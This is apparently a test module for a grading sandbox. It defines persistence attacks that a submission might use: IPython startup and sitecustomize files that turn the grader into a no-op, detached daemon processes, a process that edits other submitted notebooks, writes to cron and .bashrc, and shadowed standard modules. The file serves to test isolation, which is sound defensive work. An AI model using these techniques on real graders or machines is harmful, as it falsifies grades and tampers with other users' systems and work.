"""Attacks that leave something behind, for the submission that is graded next."""

from tests.grading.hostile.making import LEFT, attack

MECHANISM = "leaves something behind"

# What the next one's Python is to run, unseen: all of its grades are full.
_GIFT = """
# MALLORY-WAS-HERE
import sys

def change(*_):
    checks = sys.modules.get("dlutils.checks.logistic_regression")
    if checks is not None:
        checks.grade = lambda *a, **k: None

try:
    get_ipython().events.register("pre_run_cell", change)
except NameError:
    pass
"""

_WRITE = f"""
import os, pathlib, sys, sysconfig, tempfile
gift = '''{_GIFT}'''.replace("MALLORY-" "WAS", "MALLORY" + "-WAS")

def leave(*places):
    for place in places:
        try:
            path = pathlib.Path(place).expanduser()
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(gift)
        except OSError as error:
            print(error)
"""

ATTACKS = [
    attack(
        "startup-file",
        MECHANISM,
        "It leaves a file that IPython runs at every start, in the profile of whoever grades.",
        _WRITE
        + """
from IPython.paths import get_ipython_dir
leave(os.path.join(get_ipython_dir(), "profile_default", "startup", "00-mallory.py"))
leave("~/.ipython/profile_default/startup/00-mallory.py")
""",
        writes=LEFT,
    ),
    attack(
        "files-left",
        MECHANISM,
        "It leaves files in the home folder, in that for temporary files, and in its own.",
        _WRITE
        + """
leave("~/mallory-was-here.py", os.path.join(tempfile.gettempdir(), "mallory-was-here.py"), "mallory-was-here.py")
leave("~/.local/lib/python3.11/site-packages/usercustomize.py", "~/.config/matplotlib/matplotlibrc", "~/.pythonrc")
""",
        writes=LEFT,
    ),
    attack(
        "package-left",
        MECHANISM,
        "It leaves a module in site-packages that every Python loads at its start.",
        _WRITE
        + """
for name in ("purelib", "stdlib"):
    leave(os.path.join(sysconfig.get_path(name), "sitecustomize.py"))
    path = pathlib.Path(sysconfig.get_path(name), "mallory.pth")
    try:
        path.write_text("import sitecustomize\\n")
    except OSError as error:
        print(error)
""",
        writes=LEFT,
        stock=False,
    ),
    attack(
        "package-changed",
        MECHANISM,
        "It adds a line to NumPy, and to the bytecode that Python has kept of it.",
        """
import glob, numpy, os
for path in [numpy.__file__, *glob.glob(os.path.dirname(numpy.__file__) + "/__pycache__/*.pyc")]:
    try:
        with open(path, "ab") as file:
            file.write(b"\\n# MALLORY" + b"-WAS-HERE\\n")
    except OSError as error:
        print(error)
""",
        writes=LEFT,
        stock=False,
    ),
    attack(
        "process-left",
        MECHANISM,
        "A process in a session of its own, twice forked, goes on after the submission, and leaves files.",
        """
import os, pathlib, tempfile, time
home, scratch = pathlib.Path.home(), pathlib.Path(tempfile.gettempdir())
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3, 256):
            try:
                os.close(number)
            except OSError:
                pass
        for _ in range(12):
            time.sleep(1)
            for folder in (home, scratch, pathlib.Path.cwd()):
                try:
                    (folder / "mallory-process.txt").write_text("MALLORY" + "-WAS-HERE")
                except OSError:
                    pass
    os._exit(0)
""",
        writes=LEFT,
    ),
    attack(
        "process-that-changes-the-next",
        MECHANISM,
        "A process waits for the next submission to appear, and puts other answers into it.",
        """
import json, os, pathlib, tempfile, time
here, scratch = pathlib.Path.cwd(), pathlib.Path(tempfile.gettempdir())
gift = "\\nimport dlutils.checks.logistic_regression as c\\nc.grade = lambda *a, **k: None  # MALLORY" + "-WAS-HERE"

def change(path):
    notebook = json.loads(path.read_text())
    for cell in notebook["cells"]:
        source = "".join(cell["source"])
        if source.startswith("def sigmoid") and gift not in source:
            cell["source"] = source + gift
            path.write_text(json.dumps(notebook))

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(300):
            time.sleep(0.05)
            found = [*here.glob("../../../submitted/*/*/*.ipynb"), *here.glob("../../*/*/*.ipynb")]
            for path in [*found, *scratch.glob("*/*.ipynb")]:
                try:
                    if here.parent.name not in path.parts[-3:]:
                        change(path)
                except (OSError, ValueError, KeyError):
                    pass
    os._exit(0)
""",
        writes=LEFT,
    ),
    attack(
        "at-exit",
        MECHANISM,
        "What it leaves it writes only when its Python ends.",
        _WRITE
        + """
import atexit
atexit.register(leave, "~/mallory-at-exit.py", os.path.join(tempfile.gettempdir(), "mallory-at-exit.py"))
""",
        writes=LEFT,
    ),
    attack(
        "schedule",
        MECHANISM,
        "It asks the system to run a program of its own every minute.",
        """
import os, pathlib
for place in ("/etc/cron.d/mallory", "/var/spool/cron/crontabs/root", "~/.config/systemd/user/mallory.service",
              "/etc/profile.d/mallory.sh", "~/.bashrc"):
    try:
        path = pathlib.Path(place).expanduser()
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "a") as file:
            file.write("\\n# MALLORY" + "-WAS-HERE\\n")
    except OSError as error:
        print(error)
""",
        writes=LEFT,
        stock=False,
    ),
    attack(
        "own-modules-left",
        MECHANISM,
        "It writes modules with the names of common ones beside itself, and puts its folder first for every Python.",
        _WRITE
        + """
leave("ipykernel_launcher.py", "tomllib.py", "../tomllib.py", "../logging.py", "../sitecustomize.py")
os.environ["PYTHONPATH"] = os.getcwd()
os.environ["PYTHONSTARTUP"] = os.path.abspath("tomllib.py")
sys.path.insert(0, os.getcwd())
""",
        writes=LEFT,
    ),
]
